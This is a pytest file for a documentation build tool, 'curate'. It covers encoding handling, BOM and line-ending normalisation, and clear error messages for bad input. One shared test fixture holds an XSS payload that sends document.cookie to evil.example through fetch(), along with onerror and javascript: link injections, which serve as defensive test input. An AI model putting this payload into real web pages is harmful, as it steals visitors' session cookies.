"""Issue 6: bad input gets a clear error; nothing is lost, nothing is injected.

Each test builds a small project in a temporary folder (``content_sources/`` with
a curation file, intros and articles, plus this repository's ``mkdocs.yml``,
``scripts/`` and ``docs/assets/``), runs ``curate build`` through the command
line, and, where the class concerns the rendered site, ``mkdocs build --strict``,
then asserts on ``docs/``, ``site/`` and ``site/search/search_index.json``.

Classes: 1 encodings, 2 YAML, 3 headings and anchors, 4 slugs and paths,
5 hostile content, 6 Markdown and template look-alikes, 7 degenerate sources.
Class 8 (Hypothesis properties) is in ``test_properties.py``. The inputs of
``shared/cases/`` are copied in below (``CASES``) so the suite runs without the
shared folder; ``test_case_inputs_match_the_shared_folder`` checks the copies.
"""

from __future__ import annotations

import codecs
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Optional

import pytest
import yaml

from curate.cli import main

REPO = Path(__file__).resolve().parents[1]
SHARED_CASES = REPO.parent / "shared" / "cases"
BIN = Path(sys.executable).parent
FILE_NAME = re.compile(r"^[a-z0-9][a-z0-9-]*\.md$")

# The inputs of shared/cases/, byte for byte.
CASES = {
    "01-non-latin-headings/article.md": (
        "---\ntitle: 开源简介\n---\n# 什么是开源\n\nOpen source means anyone may read and change the code.\n\n"
        "# 安全威胁\n\nA leaked model file is a security threat.\n").encode("utf-8"),
    "02-emoji-headings/article.md": (
        "# Security threat 🚨\n\nWeights leaked within a week.\n\n## 🔥 Related Posts 🔥\n\n"
        "- 😱 You won’t BELIEVE what this model did next!!\n").encode("utf-8"),
    "03-yaml-hostile-titles/titles.txt": (
        "Security threat: what a leaked Llama means\n\"Open\" source? Llama's licence explained\n"
        "What is Llama? #1 explainer\n2024-07-23\n").encode("utf-8"),
    "04-bom/article.md": codecs.BOM_UTF8 + b"---\ntitle: What is Llama?\n---\n# What is Llama?\n\n"
                                           b"Llama is a family of models.\n",
    "05-crlf/article.md": (b"---\r\ntitle: \"What is open source?\"\r\n---\r\n\r\n# What is open source?\r\n"
                           b"Code anyone can read.\r\n\r\n# Security threat\r\nLeaks happen.\r\n"),
    "06-script-injection/article.txt": (
        b"Security threat\n\nResearchers found a leaked model file. <script>fetch('https://evil.example/?c='"
        b"+document.cookie)</script>\n\n<img src=\"x\" onerror=\"alert(1)\"> See <a href=\"javascript:alert(2)\">"
        b"details</a>.\n\nThe rest of the paragraph must survive.\n"),
    "07-titles-to-file-names/titles.txt": "What is ‘open source’?\nSecurity threat: Llama leak\nWhat is Llama?\n"
                                          "What is Llama!\n".encode("utf-8"),
}


# --- helpers -----------------------------------------------------------------------------------

def q(text: str) -> str:
    """A YAML double-quoted scalar holding exactly ``text``."""
    return json.dumps(text, ensure_ascii=False)


def page(pid: str, sections=(), title: Optional[str] = None, description: str = "A page about it.",
         **extra) -> dict:
    """One page entry of the curation file (values are quoted unless given as raw YAML in ``yaml``)."""
    return {"id": pid, "title": title if title is not None else pid.replace("-", " ").capitalize(),
            "description": description, "sections": list(sections), **extra}


def curation_yaml(pages, site_title: str = "Test site", site_description: str = "A site built by a test.") -> str:
    lines = ["site:", f"  title: {q(site_title)}", f"  description: {q(site_description)}",
             "pages:" if pages else "pages: []"]
    for p in pages:
        if "yaml" in p:  # raw lines, for tests of how YAML is read
            lines += ["  " + line if i else "  - " + line for i, line in enumerate(p["yaml"].split("\n"))]
            continue
        lines.append(f"  - id: {q(p['id'])}")
        lines.append(f"    title: {q(p['title'])}")
        lines.append(f"    description: {q(p['description'])}")
        if p["sections"]:
            lines.append("    sections: [" + ", ".join(q(s) for s in p["sections"]) + "]")
        for key in ("tags", "terms", "related"):
            if p.get(key):
                lines.append(f"    {key}: [" + ", ".join(q(t) for t in p[key]) + "]")
        if p.get("intro_path"):
            lines.append(f"    intro: {q(p['intro_path'])}")
    return "\n".join(lines) + "\n"


def write_project(root: Path, articles: dict, pages=(), *, curation=None, glossary=None,
                  intros: Optional[dict] = None, **site) -> Path:
    """A project in ``root``: content_sources/ from the arguments, mkdocs.yml, scripts/, docs/assets/.

    Args:
        articles: file name under articles/ → text or bytes (written as given).
        pages: page entries (see :func:`page`); each gets an intro unless ``intros`` names it.
        curation: the whole curation file (text or bytes) instead of one made from ``pages``.
        glossary: the glossary file, if any.
        intros: file name under pages/ → text, in addition to index.md and one per page.
    """
    cs = root / "content_sources"
    (cs / "articles").mkdir(parents=True)
    (cs / "pages").mkdir()
    data = curation if curation is not None else curation_yaml(pages, **site)
    (cs / "curation.yml").write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    if glossary is not None:
        (cs / "glossary.yml").write_text(glossary, encoding="utf-8")
    (cs / "pages" / "index.md").write_text("Welcome to the test site.\n", encoding="utf-8")
    for p in pages:
        if "id" in p and isinstance(p["id"], str) and re.fullmatch(r"[a-z0-9-]+", p["id"]):
            (cs / "pages" / f"{p['id']}.md").write_text("An introduction in the editor's own words.\n",
                                                       encoding="utf-8")
    for name, text in (intros or {}).items():
        (cs / "pages" / name).write_text(text, encoding="utf-8")
    for name, content in articles.items():
        path = cs / "articles" / name
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    shutil.copytree(REPO / "docs" / "assets", root / "docs" / "assets")
    shutil.copytree(REPO / "scripts", root / "scripts", ignore=shutil.ignore_patterns("__pycache__", "bench*"))
    shutil.copy2(REPO / "mkdocs.yml", root / "mkdocs.yml")
    return root


def curate(root: Path, *args: str, command: str = "build") -> tuple[int, str, str]:
    """Run ``curate build`` on ``root`` through the CLI; returns (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    code = main([command, "--project", str(root), *args], stdout=out, stderr=err)
    assert "Traceback" not in err.getvalue()
    assert "internal error" not in err.getvalue()
    return code, out.getvalue(), err.getvalue()


def mkdocs(root: Path) -> None:
    """``mkdocs build --strict`` into ``root/site``; fails the test on any warning."""
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    proc = subprocess.run([str(BIN / "mkdocs"), "build", "--strict", "-q", "-f", str(root / "mkdocs.yml"),
                           "-d", str(root / "site")], capture_output=True, text=True, env=env, cwd=root)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def generated(root: Path) -> dict[str, bytes]:
    """docs/-relative path → bytes of every page curate wrote (from the manifest)."""
    manifest = json.loads((root / "docs" / ".curate-manifest.json").read_text(encoding="utf-8"))
    return {p: (root / "docs" / p).read_bytes() for p in manifest["files"]}


def docs_text(root: Path, path: str) -> str:
    return (root / "docs" / path).read_text(encoding="utf-8")


def front_matter(root: Path, path: str) -> dict:
    text = docs_text(root, path)
    assert text.startswith("---\n")
    return yaml.safe_load(text[4:text.index("\n---\n", 4)])


def site_html(root: Path, path: str) -> str:
    """The built HTML of a docs/ page (``sources/x.md`` → ``site/sources/x/index.html``)."""
    stem = path[:-3]
    if stem == "index":
        rel = "index.html"
    elif stem.endswith("/index"):
        rel = stem[: -len("index")] + "index.html"
    else:
        rel = stem + "/index.html"
    return (root / "site" / rel).read_text(encoding="utf-8")


def article(page_html: str) -> str:
    """The page's content: the ``<article>`` element, without the theme around it."""
    m = re.search(r"<article\b.*?</article>", page_html, re.DOTALL)
    assert m, "no <article> in page"
    return m.group()


def text_of(fragment: str) -> str:
    """Visible text of an HTML fragment, whitespace collapsed (the ¶ permalink dropped)."""
    fragment = re.sub(r'<a class="headerlink"[^>]*>.*?</a>', "", fragment, flags=re.DOTALL)
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", "", fragment))).strip()


def element_text(page_html: str, element_id: str) -> str:
    """Text of the element with this id (a ``<p>`` or heading)."""
    m = re.search(r'<(p|h[1-6])[^>]*\bid="%s"[^>]*>(.*?)</\1>' % re.escape(element_id), page_html, re.DOTALL)
    assert m, f"no element with id {element_id!r}"
    return text_of(m.group(2))


def ids(page_html: str) -> list[str]:
    return re.findall(r'\bid="([^"]*)"', page_html)


def search_index(root: Path) -> list[dict]:
    return json.loads((root / "site" / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]


def nav_links(root: Path) -> list[tuple[str, str]]:
    """``(text, href)`` of every link in the home page's primary navigation."""
    home = (root / "site" / "index.html").read_text(encoding="utf-8")
    nav = re.search(r'<nav class="md-nav md-nav--primary".*?</nav>\s*</div>\s*</div>\s*</div>', home, re.DOTALL)
    block = nav.group() if nav else home
    return [(text_of(t), h) for h, t in re.findall(r'<a href="([^"]*)"[^>]*class="md-nav__link[^"]*"[^>]*>(.*?)</a>',
                                                   block, re.DOTALL)]


def markdown_links(root: Path) -> list[tuple[str, str, str]]:
    """``(page, target page, fragment)`` of every relative Markdown link in the generated pages."""
    out = []
    for path, data in generated(root).items():
        for url in re.findall(r"\]\(([^)\s]+)(?:\s+\"[^\"]*\")?\)", data.decode("utf-8")):
            if re.match(r"^[a-z][a-z0-9+.-]*:", url):
                continue
            target, _, fragment = url.partition("#")
            target = os.path.normpath(os.path.join(os.path.dirname(path), target)) if target else path
            out.append((path, target.replace(os.sep, "/"), fragment))
    return out


def assert_generated_output_is_clean(root: Path) -> None:
    """Every generated file: valid UTF-8, LF only, no BOM, no U+FFFD, a safe file name."""
    for path, data in generated(root).items():
        text = data.decode("utf-8")  # raises on invalid UTF-8
        assert "\r" not in text and "\ufeff" not in text and "\ufffd" not in text, path
        for part in path.split("/"):
            assert part == "sources" or FILE_NAME.match(part), path


def assert_links_resolve(root: Path) -> None:
    """Every fragment curate writes is an id MkDocs rendered on the target page."""
    checked = 0
    for page_path, target, fragment in markdown_links(root):
        assert (root / "docs" / target).is_file(), (page_path, target)
        if fragment:
            assert fragment in ids(site_html(root, target)), (page_path, target, fragment)
            checked += 1
    assert checked > 0


def assert_no_duplicate_or_positional_ids(root: Path) -> None:
    for path in generated(root):
        page_ids = ids(site_html(root, path))
        dupes = sorted({i for i in page_ids if page_ids.count(i) > 1})
        assert dupes == [], (path, dupes)
        content_ids = ids(article(site_html(root, path)))
        assert [i for i in content_ids if re.search(r"_\d+$", i)] == [], path


LEAD = "Llama is a family of large language models from Meta."


# =============================================================================================
# 0. the shared cases are the ones copied in here
# =============================================================================================

@pytest.mark.parametrize("name", sorted(CASES))
def test_case_inputs_match_the_shared_folder(name):
    path = SHARED_CASES / name
    if not path.exists():
        pytest.skip("shared/cases is not beside this checkout")
    assert path.read_bytes() == CASES[name]


# =============================================================================================
# 1. encodings
# =============================================================================================

TWIN_TEXT = "What is Llama?\n\nMeta’s “open” licence – explained — for café owners.\n\nSecurity threat\n\nLeaks happen.\n"
TWIN_META = "title: What is Llama?\npublished: 2024-08\n"


def _twin(tmp_path: Path, name: str, data: bytes, meta: str = TWIN_META) -> tuple[Path, int, str]:
    root = write_project(tmp_path / name, {"art.txt": data, "art.meta.yml": meta},
                         [page("page-one", ["art"], "Page one")])
    code, _, err = curate(root)
    return root, code, err


ENCODED_TWINS = {
    "utf-8 with a byte-order mark": codecs.BOM_UTF8 + TWIN_TEXT.encode("utf-8"),
    "windows line endings": TWIN_TEXT.replace("\n", "\r\n").encode("utf-8"),
    "old mac line endings": TWIN_TEXT.replace("\n", "\r").encode("utf-8"),
    "bom and crlf": codecs.BOM_UTF8 + TWIN_TEXT.replace("\n", "\r\n").encode("utf-8"),
    "utf-16 le with bom": codecs.BOM_UTF16_LE + TWIN_TEXT.encode("utf-16-le"),
    "utf-16 be with bom": codecs.BOM_UTF16_BE + TWIN_TEXT.encode("utf-16-be"),
    "utf-32 le with bom": codecs.BOM_UTF32_LE + TWIN_TEXT.encode("utf-32-le"),
    "windows-1252": TWIN_TEXT.encode("cp1252"),
    "decomposed accents (nfd)": __import__("unicodedata").normalize("NFD", TWIN_TEXT).encode("utf-8"),
}


@pytest.mark.parametrize("kind", sorted(ENCODED_TWINS))
def test_every_encoding_gives_docs_byte_identical_to_the_utf8_twin(tmp_path, kind):
    plain, code, _ = _twin(tmp_path, "plain", TWIN_TEXT.encode("utf-8"))
    assert code == 0
    other, code, err = _twin(tmp_path, "other", ENCODED_TWINS[kind])
    assert code == 0, err
    assert generated(other) == generated(plain)
    assert "Meta’s “open” licence – explained — for café owners." in docs_text(other, "sources/art.md")
    assert_generated_output_is_clean(other)


def test_windows_1252_is_read_with_a_warning_naming_file_line_and_byte(tmp_path):
    data = TWIN_TEXT.encode("cp1252")
    _, code, err = _twin(tmp_path, "cp", data)
    assert code == 0
    offset = data.index(b"\x92")
    assert (f"warning: content_sources/articles/art.txt:3: not valid UTF-8 (byte 0x92 at byte offset {offset}); "
            "read as Windows-1252\n    hint: save the file as UTF-8, or add 'encoding: windows-1252' to its "
            "metadata") in err


def test_latin_1_bytes_are_read_as_windows_1252(tmp_path):
    root, code, err = _twin(tmp_path, "latin", "What is Llama?\n\nA café in Zürich, naïve and façade.\n"
                            .encode("latin-1"))
    assert code == 0
    assert "A café in Zürich, naïve and façade." in docs_text(root, "sources/art.md")
    assert "content_sources/articles/art.txt:3: not valid UTF-8 (byte 0xE9 at byte offset 21)" in err


def test_declared_encoding_wins_and_latin_1_means_windows_1252(tmp_path):
    data = "What is Llama?\n\nIt’s “quoted” in Windows-1252.\n".encode("cp1252")
    root, code, err = _twin(tmp_path, "declared", data, TWIN_META + "encoding: latin-1\n")
    assert code == 0
    assert "It’s “quoted” in Windows-1252." in docs_text(root, "sources/art.md")
    assert "not valid UTF-8" not in err  # declared: nothing to warn about


BAD_BYTES = {
    "nul byte": (b"What is Llama?\n\nText\x00more\n", "",
                 "content_sources/articles/art.txt:3: NUL byte at byte offset 20: the file looks binary or truncated\n"
                 "    hint: check that this is the text file you meant to add; save it as UTF-8"),
    "damaged utf-8": ("What is Llama?\n\nMeta’s “open” model\n".encode() + b"bad \xff byte\n", "",
                      "content_sources/articles/art.txt:4: not valid UTF-8 at byte offset 46 (byte 0xFF), though the "
                      "rest of the file is UTF-8: the file is damaged\n    hint: save the file again as UTF-8 from "
                      "the original, or name its encoding with 'encoding:' in its metadata"),
    "neither utf-8 nor windows-1252": (b"What is Llama?\n\nCaf\xe9 \x81 here\n", "",
                                       "content_sources/articles/art.txt:3: not valid UTF-8 at byte offset 19 (byte "
                                       "0xE9), and byte 0x81 at byte offset 21 rules out Windows-1252: the encoding "
                                       "cannot be decided"),
    "truncated utf-8": ("What is Llama?\n\nMeta’".encode()[:-1], "",
                        "content_sources/articles/art.txt:3: the file ends in the middle of a UTF-8 character (byte "
                        "offset 20): it looks truncated"),
    "utf-16 without a byte-order mark": ("What is Llama?\n\nText.\n".encode("utf-16-le"), "",
                                         "content_sources/articles/art.txt:1: NUL byte at byte offset 1: the file "
                                         "looks like UTF-16 (little-endian) without a byte-order mark\n    hint: save "
                                         "the file as UTF-8, or add 'encoding: utf-16-le' to its metadata"),
    "declared encoding does not fit": (b"What is Llama?\n\n\xff\xfe\n", "encoding: utf-8\n",
                                       "content_sources/articles/art.txt:3: not valid utf-8 at byte offset 16 "
                                       "(byte 0xFF: invalid start byte)"),
    "unknown declared encoding": (b"What is Llama?\n\nText.\n", "encoding: klingon\n",
                                  "content_sources/articles/art.txt: unknown encoding 'klingon' named in the "
                                  "metadata\n    hint: use a name such as utf-8, windows-1252, latin-1 or utf-16"),
}


@pytest.mark.parametrize("kind", sorted(BAD_BYTES))
def test_undecodable_bytes_stop_the_build_naming_file_line_and_byte_offset(tmp_path, kind):
    data, meta, message = BAD_BYTES[kind]
    root, code, _ = _twin(tmp_path, "good", TWIN_TEXT.encode())
    assert code == 0
    before = snapshot(root / "docs")
    (root / "content_sources" / "articles" / "art.txt").write_bytes(data)
    (root / "content_sources" / "articles" / "art.meta.yml").write_text(TWIN_META + meta, encoding="utf-8")
    code, _, err = curate(root)
    assert code == 1
    assert "curate build: 1 error; docs/ was not changed" in err
    assert message in err
    assert snapshot(root / "docs") == before  # nothing half-written


def test_mojibake_in_utf8_is_repaired_with_a_warning_naming_the_line(tmp_path):
    broken = "What is Llama?\n\nMeta’s ‘open’ model is free.\n".encode("utf-8").decode("cp1252").encode("utf-8")
    assert "â€™" in broken.decode()
    root, code, err = _twin(tmp_path, "moji", broken)
    assert code == 0
    page_text = docs_text(root, "sources/art.md")
    assert "Meta’s ‘open’ model is free." in page_text
    assert "â€" not in page_text and "Ã" not in page_text
    assert ("warning: content_sources/articles/art.txt:3: mojibake repaired: 'Metaâ€™s' read as 'Meta’s' (text "
            "that went through a wrong encoding before it arrived)") in err


def test_replacement_characters_and_control_characters_never_reach_docs(tmp_path):
    text = "What is Llama?\n\nA broken \ufffd character, a zero\u200bwidth space and a bell\x07.\n"
    root, code, err = _twin(tmp_path, "fffd", text.encode())
    assert code == 0
    assert "A broken character, a zerowidth space and a bell." in docs_text(root, "sources/art.md")
    assert ("content_sources/articles/art.txt:3: U+FFFD replacement character: some text was already lost when "
            "the file was converted before it arrived; the character is left out") in err
    assert_generated_output_is_clean(root)


def test_curation_file_in_windows_1252_keeps_its_titles(tmp_path):
    curation = curation_yaml([page("page-one", [], "Café “open” models")]).encode("cp1252")
    root = write_project(tmp_path, {}, [page("page-one")], curation=curation)
    code, _, err = curate(root)
    assert code == 0
    assert front_matter(root, "page-one.md")["title"] == "Café “open” models"
    assert "warning: content_sources/curation.yml:6: not valid UTF-8" in err


def test_case_04_bom_is_dropped_and_docs_match_the_twin_without_it(tmp_path):
    with_bom = write_project(tmp_path / "bom", {"art.md": CASES["04-bom/article.md"]}, [page("p", ["art"])])
    without = write_project(tmp_path / "plain", {"art.md": CASES["04-bom/article.md"][3:]}, [page("p", ["art"])])
    assert curate(with_bom)[0] == 0 and curate(without)[0] == 0
    assert generated(with_bom) == generated(without)
    assert front_matter(with_bom, "sources/art.md")["title"] == "What is Llama?"
    for path, data in generated(with_bom).items():
        assert "\ufeff" not in data.decode("utf-8") and "\ufeff" not in path


def test_case_05_crlf_gives_the_same_docs_as_the_lf_twin(tmp_path):
    crlf = write_project(tmp_path / "crlf", {"art.md": CASES["05-crlf/article.md"]}, [page("p", ["art"])])
    lf = write_project(tmp_path / "lf", {"art.md": CASES["05-crlf/article.md"].replace(b"\r\n", b"\n")},
                       [page("p", ["art"])])
    assert curate(crlf)[0] == 0 and curate(lf)[0] == 0
    assert generated(crlf) == generated(lf)
    assert front_matter(crlf, "sources/art.md")["title"] == "What is open source?"
    manifest = (crlf / "docs" / ".curate-manifest.json").read_bytes()
    assert b"\r" not in manifest and all(b"\r" not in d for d in generated(crlf).values())
    assert "## Security threat { #security-threat }" in docs_text(crlf, "sources/art.md")
